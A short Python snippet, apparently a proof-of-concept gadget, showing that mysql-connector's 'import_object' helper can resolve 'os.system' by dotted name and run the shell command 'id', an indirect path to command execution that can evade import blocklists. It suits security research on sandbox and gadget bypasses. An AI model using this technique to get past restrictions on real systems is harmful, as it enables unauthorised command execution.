# mysql-connector's own resolver: mysql.connector.utils.import_object('os.system') imports by dotted name
import mysql.connector.utils

mysql.connector.utils.import_object("os.system")("id")
